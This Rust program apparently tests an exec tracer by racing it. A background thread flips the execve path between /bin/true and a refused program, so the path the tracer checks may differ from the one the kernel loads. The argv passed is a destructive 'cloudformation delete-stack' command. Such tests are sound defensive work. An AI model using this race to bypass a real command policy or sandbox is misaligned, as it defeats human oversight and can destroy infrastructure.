//! Races the exec tracer: one thread keeps rewriting the path that the other passes to
//! execve(2), between a harmless program and a refused one, while the argv stays the same.
//! Whatever the tracer read at the exec's entry may not be what the kernel loads.
use std::sync::atomic::{AtomicU8, Ordering};

static PATH: [AtomicU8; 512] = [const { AtomicU8::new(0) }; 512];

unsafe extern "C" {
    fn execve(path: *const u8, argv: *const *const u8, envp: *const *const u8) -> i32;
}

fn set(path: &[u8]) {
    for (i, b) in path.iter().chain(std::iter::once(&0)).enumerate() {
        PATH[i].store(*b, Ordering::Relaxed);
    }
}

fn main() {
    let refused = std::env::args().nth(1).expect("refused program").into_bytes();
    let harmless: &'static [u8] = b"/bin/true";
    set(harmless);
    std::thread::spawn(move || {
        loop {
            set(&refused);
            set(harmless);
        }
    });
    let args: [&[u8]; 5] = [
        b"x\0",
        b"cloudformation\0",
        b"delete-stack\0",
        b"--stack-name\0",
        b"race\0",
    ];
    let mut argv: Vec<*const u8> = args.iter().map(|a| a.as_ptr()).collect();
    argv.push(std::ptr::null());
    let envp = [std::ptr::null::<u8>()];
    for _ in 0..20_000 {
        // SAFETY: the path buffer is always NUL-terminated within its 512 bytes (every value
        // written is shorter), and argv/envp are NULL-terminated arrays of C strings.
        unsafe {
            execve(PATH.as_ptr().cast(), argv.as_ptr(), envp.as_ptr());
        }
    }
    std::process::exit(3);
}
